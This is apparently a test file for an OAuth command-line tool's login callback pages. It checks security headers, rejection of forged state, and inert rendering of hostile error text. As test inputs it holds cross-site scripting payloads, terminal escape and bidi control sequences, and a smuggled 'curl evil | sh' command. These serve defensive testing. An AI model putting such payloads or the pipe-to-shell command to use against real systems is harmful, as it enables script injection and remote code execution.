import { PassThrough } from 'node:stream';
import type { Browser, BrowserContext } from 'puppeteer-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { LoginError } from '../../src/index.js';
import { startLoopbackCallback } from '../../src/oauth/loopback-callback.js';
import { readPastedResponse } from '../../src/oauth/paste-back.js';
import { startBed, useCleanups } from '../support/testbed.js';
import {
  callbackOf,
  chromiumAvailability,
  launchChromium,
  openTab,
  realBrowserHook,
} from './support/browser.js';

// The pages the login serves (src/oauth/login-pages.ts, answered by the loopback callback) are
// read by a person's browser on a URL that carries the authorization code, and render what the
// authorization server put in the redirect: checked in a real Chromium, plus every page's headers
// over plain HTTP. Paste-back serves no page (the browser ends on the loopback address, which
// serves these same pages when it is reachable); its error text reaches the terminal instead.

const cleanups = useCleanups();

/** Control and format characters (escape sequences, bell, bidi overrides): none may be rendered. */
const CONTROL = /[\p{Cc}\p{Cf}]/u;

const ERROR_PAYLOAD = `access_denied<img src=x onerror="window.__pwned='error';alert('error')">\u001b[2J`;
const DESCRIPTION_PAYLOAD = `<script>window.__pwned='script'</script><img src=x onerror="window.__pwned='img';alert('img')"> denied\u0007 \u001b[31mby\u001b[0m \u202Eadmin`;

/** The header set every login page must carry: nothing loads, runs, frames it or learns its URL. */
function expectLockedDown(label: string, headers: Record<string, string | undefined>): void {
  const csp = new Map(
    (headers['content-security-policy'] ?? '')
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...values]) => [name!.toLowerCase(), values.join(' ')]),
  );
  expect({ label, csp: Object.fromEntries(csp) }).toMatchObject({
    label,
    csp: {
      'default-src': "'none'",
      'frame-ancestors': "'none'",
      'base-uri': "'none'",
      'form-action': "'none'",
    },
  });
  expect(csp.has('script-src'), label).toBe(false);
  // Styles only by hash: an injected <style> or style attribute would not apply.
  expect(csp.get('style-src'), label).toMatch(/^'sha256-[A-Za-z0-9+/]+=*'$/);
  expect(
    {
      label,
      type: headers['content-type'],
      nosniff: headers['x-content-type-options'],
      referrer: headers['referrer-policy'],
      cache: headers['cache-control'],
      frame: headers['x-frame-options'],
    },
    label,
  ).toEqual({
    label,
    type: 'text/html; charset=utf-8',
    nosniff: 'nosniff',
    referrer: 'no-referrer',
    cache: 'no-store',
    frame: 'DENY',
  });
}

const { executablePath, skipReason } = chromiumAvailability();

describe.skipIf(skipReason !== undefined)('the login pages in a real browser (Chromium)', () => {
  let browser: Browser | undefined;
  let context: BrowserContext;

  // One browser for the file; a fresh context (cookies, cache) per test.
  beforeAll(async () => {
    browser = await launchChromium(executablePath);
  });
  afterAll(async () => {
    await browser?.close();
  });
  beforeEach(async () => {
    context = await browser!.createBrowserContext();
    cleanups.push(() => context.close());
  });

  it('a real login ends on a success page naming the server and saying the tab can be closed; strays are ignored', async () => {
    const { manager, as } = await startBed(cleanups, { login: false, config: { timeoutSeconds: 60 } });
    const { page, dialogs } = await openTab(context);
    const strays: Array<{ label: string; status: number; headers: Record<string, string> }> = [];
    const { hook, visited } = realBrowserHook(page, async (tab, url) => {
      const { redirectUri } = callbackOf(url);
      // What browsers and scanners send to a listening port before the real redirect arrives.
      const favicon = await tab.goto(new URL('/favicon.ico', redirectUri).href);
      strays.push({ label: 'favicon', status: favicon!.status(), headers: favicon!.headers() });
      const forged = new URL(redirectUri);
      forged.search = new URLSearchParams({ code: 'forged', state: 'not-the-state' }).toString();
      const wrongState = await tab.goto(forged.href);
      strays.push({ label: 'wrong state', status: wrongState!.status(), headers: wrongState!.headers() });
      // The person's part: the kit's authorization server signs in and consents through redirects
      // (cookies, 303s) that the browser follows to the loopback callback.
      return tab.goto(url);
    });

    const result = await manager.login('demo', { openBrowser: hook });
    const response = (await visited())!;

    expect(result.status.state).toBe('valid');
    expect(as.stats.authorizations).toBe(1);
    expect(as.stats.authorizationCodeGrants).toBe(1);
    expect(strays.map((s) => [s.label, s.status])).toEqual([
      ['favicon', 404],
      ['wrong state', 400],
    ]);
    for (const stray of strays) expectLockedDown(stray.label, stray.headers);

    expect(new URL(page.url()).pathname).toMatch(/^\/callback\//);
    expect(response.status()).toBe(200);
    expectLockedDown('success', response.headers());
    const seen = await page.evaluate(() => ({
      title: document.title,
      // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what a person reads
      text: document.body.innerText,
      scripts: document.scripts.length,
      // The page's own style applies (its CSP hash matches): a narrow column.
      maxWidth: getComputedStyle(document.body).maxWidth,
    }));
    expect(seen.title).toBe('Login complete');
    expect(seen.text).toMatch(/Login complete/);
    expect(seen.text).toMatch(/You are logged in to demo\./);
    expect(seen.text).toMatch(/You can close this tab/);
    expect(seen.scripts).toBe(0);
    expect(seen.maxWidth).toBe('576px');
    expect(dialogs).toEqual([]);
  });

  it('an error redirect carrying script and control characters is shown as inert text, and the login fails', async () => {
    const { manager, as } = await startBed(cleanups, { login: false, config: { timeoutSeconds: 60 } });
    const { page, dialogs } = await openTab(context);
    const { hook, visited } = realBrowserHook(page, (tab, url) => {
      // A hostile authorization server redirects back with an error of its choosing.
      const { redirectUri, state } = callbackOf(url);
      const callback = new URL(redirectUri);
      callback.search = new URLSearchParams({
        error: ERROR_PAYLOAD,
        error_description: DESCRIPTION_PAYLOAD,
        state,
        // From the server the login started at (RFC 9207): else its text is not shown at all.
        iss: as.issuer,
      }).toString();
      return tab.goto(callback.href);
    });

    const error = await manager.login('demo', { openBrowser: hook }).catch((e: unknown) => e);
    const response = (await visited())!;

    expect(error).toBeInstanceOf(LoginError);
    expect((error as Error).message).toContain('access_denied');
    expect((error as Error).message).not.toMatch(CONTROL);
    expect(as.stats.authorizationCodeGrants).toBe(0);

    expect(response.status()).toBe(400);
    expectLockedDown('error', response.headers());
    const seen = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: string }).__pwned,
      tags: Array.from(document.body.querySelectorAll('*'), (e) => e.tagName.toLowerCase()),
      scripts: document.scripts.length,
      text: document.documentElement.textContent ?? '',
      // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what a person reads
      visible: document.body.innerText,
    }));
    expect(seen.pwned).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(seen.scripts).toBe(0);
    expect(new Set(seen.tags)).toEqual(new Set(['main', 'h1', 'p']));
    // The person sees what the server sent, as text, without its control characters.
    expect(seen.visible).toMatch(/Login failed/);
    expect(seen.visible).toContain(
      `access_denied<img src=x onerror="window.__pwned='error';alert('error')">`,
    );
    expect(seen.visible).toContain(`<script>window.__pwned='script'</script>`);
    expect(seen.visible).toContain('[31mby');
    expect(seen.visible).toMatch(/You can close this tab/);
    expect(seen.text).not.toMatch(CONTROL);
  });
});

describe('every page the loopback callback answers', () => {
  it('carries the locked-down headers: success, error, wrong state, no code, other path, other method', async () => {
    const callback = await startLoopbackCallback({ server: 'demo', port: 0, path: '/callback/x' });
    cleanups.push(() => callback.close());
    const controller = new AbortController();
    cleanups.push(async () => controller.abort());
    const base = new URL(callback.redirectUri);
    const at = (query: Record<string, string>, path = base.pathname) =>
      new URL(`${path}?${new URLSearchParams(query)}`, base);

    const waitFirst = callback.waitForResponse('s1', controller.signal).catch((e: unknown) => e);
    const answers: Array<[string, Response]> = [
      ['other path', await fetch(at({}, '/favicon.ico'))],
      ['other method', await fetch(at({ code: 'c', state: 's1' }), { method: 'POST' })],
      ['wrong state', await fetch(at({ code: 'c', state: 'other' }))],
      ['no code', await fetch(at({ state: 's1' }))],
      ['error', await fetch(at({ error: 'access_denied', state: 's1' }))],
    ];
    expect(await waitFirst).toBeInstanceOf(LoginError);
    const waitSecond = callback.waitForResponse('s2', controller.signal);
    answers.push(['success', await fetch(at({ code: 'c', state: 's2' }))]);
    expect(await waitSecond).toEqual({ code: 'c', iss: undefined });

    expect(answers.map(([label, r]) => [label, r.status])).toEqual([
      ['other path', 404],
      ['other method', 404],
      ['wrong state', 400],
      ['no code', 400],
      ['error', 400],
      ['success', 200],
    ]);
    for (const [label, r] of answers) {
      const headers: Record<string, string> = {};
      r.headers.forEach((value, name) => {
        headers[name] = value;
      });
      expectLockedDown(label, headers);
      expect(await r.text(), label).not.toMatch(/<script/i);
    }
  });
});

describe('paste-back: an error response from a hostile server', () => {
  it('reaches the terminal without control characters', async () => {
    const stream = new PassThrough();
    const controller = new AbortController();
    cleanups.push(async () => controller.abort());
    const reading = readPastedResponse({ server: 'demo', stream, state: 's', signal: controller.signal });
    const query = new URLSearchParams({
      error: 'access_denied\u001b]0;owned\u0007',
      error_description: 'denied \u001b[31mby\u001b[0m \u202Eadmin\r\nRun: curl evil | sh',
      state: 's',
    });
    stream.write(`http://127.0.0.1:1/callback/x?${query}\n`);
    const error = await reading.catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LoginError);
    const message = (error as Error).message;
    expect(message).not.toMatch(CONTROL);
    expect(message).toContain('access_denied');
    expect(message).toContain('[31mby');
  });
});
